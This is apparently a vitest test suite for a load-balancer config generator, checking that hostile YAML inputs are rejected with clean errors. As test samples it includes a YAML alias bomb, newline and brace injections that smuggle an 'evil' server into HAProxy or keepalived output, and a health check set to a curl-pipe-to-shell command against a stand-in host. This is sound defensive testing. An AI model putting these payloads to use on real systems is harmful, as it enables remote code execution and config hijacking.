/**
 * Hostile input to the generator: every case ends in a clean diagnostic and exit 1 — never a
 * stack trace, never an injected line in a generated file.
 */
import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compile } from '../../src/compile/compile.js';
import { renderHaproxy, renderKeepalived } from '../../src/render/node.js';
import { InternalError } from '../../src/diagnostics/errors.js';
import { lbbake, EXAMPLE } from '../helpers/cli.js';
import { readFileSync } from 'node:fs';
import { useTempDir } from '../helpers/tmp.js';

const tmp = useTempDir('lbbake-hostile');
const example = readFileSync(EXAMPLE, 'utf8');

function file(name: string, content: string | Buffer): string {
  const f = join(tmp, name);
  writeFileSync(f, content);
  return f;
}

const CASES: Array<{ name: string; path: () => string; code: string }> = [
  { name: 'empty file', path: () => file('empty.yaml', ''), code: 'WRONG_TYPE' },
  { name: 'only a comment', path: () => file('comment.yaml', '# nothing\n'), code: 'WRONG_TYPE' },
  { name: 'a list, not a mapping', path: () => file('list.yaml', '- 1\n- 2\n'), code: 'WRONG_TYPE' },
  { name: 'a scalar', path: () => file('scalar.yaml', 'hello\n'), code: 'WRONG_TYPE' },
  { name: 'non-UTF-8 bytes', path: () => file('latin1.yaml', Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x3a, 0x20, 0xff, 0xfe, 0x0a])), code: 'NOT_UTF8' },
  { name: 'NUL bytes', path: () => file('nul.yaml', 'version: 1\0\n'), code: 'NOT_TEXT' },
  { name: 'a directory', path: () => (mkdirSync(join(tmp, 'dir.yaml'), { recursive: true }), join(tmp, 'dir.yaml')), code: 'NOT_A_FILE' },
  { name: 'an unreadable file (EIO)', path: () => '/proc/self/mem', code: 'FILE_UNREADABLE' },
  { name: 'a missing file', path: () => join(tmp, 'missing.yaml'), code: 'FILE_NOT_FOUND' },
  { name: 'a 10 MB file', path: () => file('big.yaml', example + '#'.repeat(10 * 1024 * 1024) + '\n'), code: 'FILE_TOO_LARGE' },
  { name: 'a YAML alias bomb', path: () => file('bomb.yaml', 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n'), code: 'YAML_ALIAS_LIMIT' },
  { name: 'deeply nested input', path: () => file('deep.yaml', 'a:\n' + Array.from({ length: 200 }, (_, i) => ' '.repeat(i + 1) + '- \n').join('')), code: 'YAML_TOO_DEEP' },
  { name: 'deeply nested flow input', path: () => file('deepflow.yaml', 'x: ' + '['.repeat(5000) + ']'.repeat(5000) + '\n'), code: 'YAML_RESOURCE_EXHAUSTION' },
  { name: 'a newline injected into a server name', path: () => file('inject1.yaml', example.replace('name: master-0', 'name: "master-0\\n    server evil 6.6.6.6:6443"')), code: 'BAD_STRING' },
  { name: 'a brace injected into the interface', path: () => file('inject2.yaml', example.replace('  prefix: 32\n', '  prefix: 32\n  interface: "eth0 }\\nvrrp_script x {"\n')), code: 'BAD_STRING' },
  { name: 'a quote injected into the auth pass', path: () => file('inject3.yaml', example.replace('routerId: 18', 'routerId: 18\n  auth: { pass: "a\\"\\n}" }')), code: 'BAD_STRING' },
  { name: 'a shell command as the check', path: () => file('inject4.yaml', example.replace('check: { interval: 1', 'check: { command: "/bin/sh -c \'curl evil|sh\'", interval: 1')), code: 'BAD_STRING' },
  { name: 'an env: secret with a newline', path: () => file('inject5.yaml', example.replace('routerId: 18', 'routerId: 18\n  auth: { pass: "env:LBBAKE_HOSTILE" }')), code: 'AUTH_PASS_CHARS' },
];

describe('hostile input', () => {
  for (const c of CASES) {
    it(`${c.name} → ${c.code}, exit 1, no stack trace`, async () => {
      const r = await lbbake(['validate', c.path()], { env: { LBBAKE_HOSTILE: 'ab\ncd' } });
      expect(r.stderr).toContain(`error[${c.code}]`);
      expect(r.code).toBe(1);
      expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
      expect(r.stderr).not.toContain('internal error');
      expect(r.stderr.length).toBeLessThan(4000);
    }, 60_000);
  }

  it('the renderer itself refuses unsafe values (second line of defence)', () => {
    const m = compile(example).model!;
    const evil = structuredClone(m);
    evil.services[0].servers[0].name = 'x\n    server evil 6.6.6.6:1';
    expect(() => renderHaproxy(evil, evil.nodes[0])).toThrow(InternalError);
    const evil2 = structuredClone(m);
    evil2.vip.interface = 'eth0 }';
    expect(() => renderKeepalived(evil2, evil2.nodes[0])).toThrow(InternalError);
    const evil3 = structuredClone(m);
    evil3.vrrp.authPass = 'a"b';
    expect(() => renderKeepalived(evil3, evil3.nodes[0])).toThrow(InternalError);
  });
});
